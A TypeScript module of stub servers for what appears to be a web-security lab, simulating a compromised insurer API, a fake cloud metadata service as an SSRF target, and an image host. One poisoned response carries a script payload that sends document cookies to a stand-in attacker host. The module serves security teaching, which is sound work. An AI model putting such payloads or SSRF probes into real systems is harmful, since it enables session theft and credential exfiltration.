import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface StubServer {
  url: string;
  port: number;
  /** Requests received so far (the SSRF exploit counts them as evidence). */
  hits(): number;
  close(): Promise<void>;
}

async function listen(
  handler: (req: IncomingMessage, res: ServerResponse) => void,
  port = 0,
  host = '127.0.0.1',
): Promise<{ server: Server; port: number }> {
  const server = createServer(handler);
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve());
  });
  return { server, port: (server.address() as AddressInfo).port };
}

function closer(server: Server): () => Promise<void> {
  return () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
}

function json(res: ServerResponse, status: number, body: unknown): void {
  const text = JSON.stringify(body);
  res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
  res.end(text);
}

/**
 * The insurer's eligibility API the lab consumes — compromised. It answers honestly
 * for most members, but for `M-6666` it returns a poisoned answer: a string where a
 * boolean belongs, 250 % coverage and an oversized, script-laden plan name (API10).
 *
 * `GET /eligibility/{memberId}` → `{ memberId, eligible, coveragePercent, planName }`.
 * @example
 * const insurer = await startThirdPartyStub();
 * const lab = await startLab({ mode: 'vulnerable', thirdPartyUrl: insurer.url });
 */
export async function startThirdPartyStub(opts: { port?: number; host?: string } = {}): Promise<StubServer> {
  let hits = 0;
  const { server, port } = await listen(
    (req, res) => {
      hits++;
      const m = /^\/eligibility\/([A-Za-z0-9-]{1,32})$/.exec(req.url ?? '');
      if (req.method !== 'GET' || !m) return json(res, 404, { error: 'not found' });
      const memberId = m[1]!;
      switch (memberId) {
        case 'M-1001':
          return json(res, 200, { memberId, eligible: true, coveragePercent: 80, planName: 'Silver Care' });
        case 'M-2002':
          return json(res, 200, { memberId, eligible: false, coveragePercent: 0, planName: 'Lapsed' });
        case 'M-6666':
          return json(res, 200, {
            memberId,
            eligible: 'yes',
            coveragePercent: 250,
            planName: '<script>fetch("//evil.example/?c="+document.cookie)</script>' + 'X'.repeat(4096),
          });
        default:
          return json(res, 404, { error: 'unknown member' });
      }
    },
    opts.port,
    opts.host,
  );
  const host = opts.host ?? '127.0.0.1';
  return { url: `http://${host}:${port}`, port, hits: () => hits, close: closer(server) };
}

/** Marker the fake metadata service returns; seeing it in a lab answer proves SSRF. */
export const METADATA_MARKER = 'LAB-FAKE-AccessKeyId-AKIALABDEMO0000';

/**
 * A stand-in for a cloud instance-metadata service, on loopback only: the internal
 * target of the SSRF exploit. Its "credentials" are fake.
 */
export async function startMetadataStub(opts: { port?: number } = {}): Promise<StubServer> {
  let hits = 0;
  const { server, port } = await listen((_req, res) => {
    hits++;
    json(res, 200, {
      Code: 'Success',
      AccessKeyId: METADATA_MARKER,
      SecretAccessKey: 'lab-fake-not-a-secret',
      Token: 'lab-fake',
    });
  }, opts.port);
  return {
    url: `http://127.0.0.1:${port}/latest/meta-data/iam/security-credentials/lab-role`,
    port,
    hits: () => hits,
    close: closer(server),
  };
}

/** A tiny trusted image host for legitimate avatar imports (a 1×1 PNG). */
export async function startImageStub(opts: { port?: number } = {}): Promise<StubServer> {
  let hits = 0;
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const { server, port } = await listen((_req, res) => {
    hits++;
    res.writeHead(200, { 'content-type': 'image/png', 'content-length': png.length });
    res.end(png);
  }, opts.port);
  return { url: `http://127.0.0.1:${port}/avatars/alice.png`, port, hits: () => hits, close: closer(server) };
}
